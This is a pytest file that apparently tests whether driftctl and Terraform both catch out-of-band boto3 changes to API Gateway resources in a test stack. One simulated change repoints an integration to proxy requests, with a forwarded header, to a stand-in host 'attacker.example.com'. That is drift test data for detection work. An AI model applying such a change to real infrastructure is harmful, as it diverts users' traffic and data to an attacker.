"""driftctl against `terraform plan -refresh-only` for the API Gateway REST API types of
#26: one stack (tests/tf/stacks/apigw), applied once: driftctl finds no drift and nothing
unmanaged, then one out-of-band change per type is made with boto3 and both tools find
it, and nothing else."""

from __future__ import annotations

import pytest

from tests.tf import harness, prefetch
from tests.tf.group import Group, Outcome
from tests.tf.harness import Change

CHANGES = [
    Change(
        "aws_api_gateway_rest_api.shop", "description", "apigateway", "update_rest_api",
        {"restApiId": "${self.id}",
         "patchOperations": [{"op": "replace", "path": "/description", "value": "by hand"}]},
    ),
    Change(
        "aws_api_gateway_resource.item", harness.MISSING, "apigateway", "delete_resource",
        {"restApiId": "${self.rest_api_id}", "resourceId": "${self.id}"},
    ),
    Change(
        "aws_api_gateway_method.list", harness.MISSING, "apigateway", "delete_method",
        {"restApiId": "${self.rest_api_id}", "resourceId": "${self.resource_id}",
         "httpMethod": "GET"},
    ),
    Change(
        "aws_api_gateway_integration.home", "uri", "apigateway", "put_integration",
        {"restApiId": "${self.rest_api_id}", "resourceId": "${self.resource_id}",
         "httpMethod": "GET", "type": "HTTP_PROXY", "integrationHttpMethod": "GET",
         "uri": "https://attacker.example.com/", "connectionType": "INTERNET",
         "timeoutInMillis": 29000,
         "requestParameters": {
             "integration.request.header.x-shop": "method.request.header.x-shop"}},
    ),
    Change(
        "aws_api_gateway_deployment.v1", harness.MISSING, "apigateway", "delete_deployment",
        {"restApiId": "${self.rest_api_id}", "deploymentId": "${self.id}"},
    ),
]  # fmt: skip

GROUP = Group("apigw", CHANGES)


@pytest.fixture(scope="module")
def outcome(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Outcome:
    """The stack, applied, changed and compared once (by the controller of a parallel
    run: tests/tf/prefetch.py)."""
    return prefetch.outcome(GROUP, request, tmp_path_factory)


def test_a_clean_stack_has_no_drift_and_nothing_unmanaged(outcome: Outcome) -> None:
    summary = outcome.clean["summary"]
    assert outcome.clean["drifts"] == []
    assert outcome.clean["errors"] == []
    assert summary["managed"] == summary["declared"]
    assert summary["unsupported"] == {}


@pytest.mark.parametrize("change", CHANGES, ids=str)
def test_a_change_is_drift_in_both_tools(outcome: Outcome, change: Change) -> None:
    terraform = [d for d in outcome.terraform if d.address == change.address]
    driftctl = [d for d in outcome.driftctl if d.address == change.address]
    found = harness.disagreements(terraform, driftctl)
    assert found == [], "\n".join(map(str, found))
    assert terraform, f"terraform did not see {change}"


def test_nothing_else_drifts(outcome: Outcome) -> None:
    changed = sorted(c.address for c in CHANGES)
    assert sorted(d.address for d in outcome.terraform) == changed
    assert sorted(d.address for d in outcome.driftctl) == changed
